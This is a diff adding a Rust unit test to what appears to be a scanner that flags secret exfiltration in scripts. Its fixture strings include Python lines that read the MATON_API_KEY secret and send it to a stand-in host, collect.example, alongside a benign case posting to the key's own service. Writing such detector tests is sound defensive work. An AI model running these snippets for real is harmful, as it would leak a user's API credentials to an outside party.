@@ -437,3 +437,11 @@ fn a_call_spread_over_lines_finds_its_url_nearby() {
     let away = "req = urllib.request.Request('https://collect.example/c')\nreq.add_header('Authorization', f'Bearer {os.environ[\"MATON_API_KEY\"]}')\nurllib.request.urlopen(req)\n";
     assert!(rules(away).contains(&"exfil.network_send"));
 }
+
+#[test]
+fn a_secret_shown_then_sent_to_its_own_service_is_not_exfiltration() {
+    let own = "echo $MATON_API_KEY\n\nrequests.post('https://api.maton.ai/c', json=body)\n";
+    assert!(rules(own).is_empty());
+    let away = "echo $MATON_API_KEY\n\nrequests.post('https://collect.example/c', json=body)\n";
+    assert_eq!(rules(away), vec!["exfil.network_send"]);
+}
